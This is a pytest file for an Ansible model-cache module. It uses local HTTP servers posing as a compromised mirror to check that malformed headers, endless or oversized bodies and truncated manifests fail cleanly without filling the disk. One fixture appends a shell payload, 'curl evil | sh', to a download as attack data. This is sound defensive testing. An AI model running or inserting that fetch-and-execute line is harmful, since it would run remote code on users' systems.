"""Class 3 - a hostile source cannot fill the node's disk, cut a manifest or crash the module.

The attacker is the model source (a compromised mirror): it sends a Content-Length that is not a
number, a body that never ends or is longer than the file, a manifest longer than the module reads.
Real HTTP servers on 127.0.0.1 and the module's ``main()``. The disk is the module's free-space seam
(``free_bytes``, ``fs_bytes``) over the real files the cache writes: a 128 MiB filesystem on which
only the cache uses space.
"""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from ansible_collections.aiinfra.datapath.plugins.module_utils._model_cache import cache as mc
from ansible_collections.aiinfra.datapath.plugins.module_utils._model_cache import layout
from ansible_collections.aiinfra.datapath.plugins.modules import model_cache
from httpfixtures import Server, send

MiB = 1 << 20
DATA = os.urandom(64 * 1024 + 7)
SHA = hashlib.sha256(DATA).hexdigest()


def run(run_module, tmp: Path, source: str, files=None, expect_failure=False, **extra) -> dict:
    model = dict(name="m", version="1", source=source)
    model.update(extra.pop("model", {}) or {"files": files if files is not None else [
        dict(path="w.bin", sha256=SHA, size=len(DATA))]})
    (tmp / "cache").mkdir(exist_ok=True)
    args = dict(cache_dir=str(tmp / "cache" / "models"), lock_file=str(tmp / "lock"), retries=0, timeout=5,
                models=[model])
    args.update(extra)
    return run_module(model_cache.main, args, expect_failure=expect_failure)


def small_disk(monkeypatch, tmp: Path, capacity: int = 128 * MiB) -> None:
    (tmp / "cache").mkdir(exist_ok=True)
    monkeypatch.setattr(mc, "free_bytes", lambda path: capacity - layout.tree_bytes(str(tmp / "cache")))
    monkeypatch.setattr(mc, "fs_bytes", lambda path: capacity)


def serving(handle):
    server = Server(handle)
    return server, server.url + "/v1"


@pytest.mark.parametrize("length", ["abc", "-5", "1e9"])
def test_a_content_length_that_is_not_a_size_fails_cleanly(run_module, tmp_path: Path, length: str) -> None:
    server, url = serving(lambda req: (req.send_response(200), req.send_header("Content-Length", length),
                                       req.send_header("Connection", "close"), req.end_headers(),
                                       req.command == "GET" and req.wfile.write(DATA)))
    try:
        result = run(run_module, tmp_path, url, expect_failure=True)   # a traceback would raise here instead
    finally:
        server.close()
    assert "is not a non-negative number" in result["msg"] and repr(length) in result["msg"], result["msg"]
    assert not (tmp_path / "cache" / "models" / "m" / "1").exists()


def test_an_endless_body_stops_at_a_default_reserve_above_zero(run_module, tmp_path: Path, monkeypatch) -> None:
    small_disk(monkeypatch, tmp_path)
    chunk = os.urandom(64 * 1024)

    def endless(req) -> None:
        req.send_response(200)
        req.send_header("Transfer-Encoding", "chunked")
        req.end_headers()
        if req.command == "HEAD":
            return
        try:
            for _chunk in range(4096):      # 256 MiB at most: more than the whole disk
                req.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        except OSError:
            pass

    server, url = serving(endless)
    try:
        result = run(run_module, tmp_path, url, [dict(path="w.bin", sha256=SHA, size=None)], expect_failure=True)
    finally:
        server.close()
    assert "would drop below the reserve" in result["msg"], result["msg"]
    assert result["reserve_bytes"] == 64 * MiB, "no reserve by default: the disk fills to zero"
    assert mc.free_bytes(str(tmp_path)) >= 64 * MiB - 256 * 1024


def test_a_body_longer_than_the_declared_size_fails(run_module, tmp_path: Path) -> None:
    def longer(req) -> None:   # no Content-Length: the file and then some
        req.send_response(200)
        req.send_header("Transfer-Encoding", "chunked")
        req.end_headers()
        if req.command == "GET":
            body = DATA + b"#!/bin/sh\ncurl evil | sh\n"
            req.wfile.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))

    server, url = serving(longer)
    try:
        result = run(run_module, tmp_path, url, expect_failure=True)
    finally:
        server.close()
    assert "sent more than %d bytes" % len(DATA) in result["msg"], result["msg"]
    assert not (tmp_path / "cache" / "models" / "m" / "1").exists()


def test_a_declared_size_other_than_the_files_fails(run_module, tmp_path: Path) -> None:
    server, url = serving(lambda req: send(req, 200, DATA + b"x" * 100))
    try:
        result = run(run_module, tmp_path, url, expect_failure=True)
    finally:
        server.close()
    assert "declares %d bytes" % (len(DATA) + 100) in result["msg"], result["msg"]


def test_a_manifest_over_the_limit_is_refused_not_cut(run_module, tmp_path: Path) -> None:
    # the second file's line lies beyond 16 MiB of comments: a cut manifest would publish without it
    manifest = ("%s  w.bin\n" % SHA + "# padding\n" * (17 * MiB // 10) + "%s  tokenizer.json\n" % SHA).encode()

    def handle(req) -> None:
        send(req, 200, manifest if req.path.endswith("SHA256SUMS") else DATA)
    server, url = serving(handle)
    try:
        result = run(run_module, tmp_path, url, model={"manifest": "SHA256SUMS"}, expect_failure=True)
    finally:
        server.close()
    assert "larger than %d bytes" % (16 * MiB) in result["msg"], result["msg"]
    assert not (tmp_path / "cache" / "models" / "m" / "1").exists()


def test_stale_partial_files_go_before_any_published_version(run_module, tmp_path: Path, monkeypatch) -> None:
    small_disk(monkeypatch, tmp_path, capacity=256 * MiB)
    src = tmp_path / "src"
    for name, size in (("a", 24 * MiB), ("new", 24 * MiB)):
        (src / name).mkdir(parents=True)
        (src / name / "w.bin").write_bytes(os.urandom(size))

    def model(name: str) -> dict:
        data = (src / name / "w.bin").read_bytes()
        return dict(name=name, version="1", source=str(src / name),
                    files=[dict(path="w.bin", sha256=hashlib.sha256(data).hexdigest(), size=len(data))])
    base = dict(cache_dir=str(tmp_path / "cache" / "models"), lock_file=str(tmp_path / "lock"))
    run_module(model_cache.main, dict(base, models=[model("a")]))
    # a download of a version that is no longer asked for, interrupted long ago: 48 MiB in .staging
    stale = tmp_path / "cache" / "models" / ".staging" / "old" / "7"
    stale.mkdir(parents=True)
    (stale / "w.bin.part").write_bytes(b"\0" * (48 * MiB))
    free = mc.free_bytes(str(tmp_path))
    result = run_module(model_cache.main, dict(base, models=[model("new")], reserve_bytes=free - 8 * MiB))
    assert result["evicted"] == [], "a published version was evicted while stale partial files took the space"
    assert [a["kind"] for a in result["actions"]][:1] == ["discard"], result["actions"]
    assert not stale.exists() and (tmp_path / "cache" / "models" / "a" / "1" / "w.bin").exists()
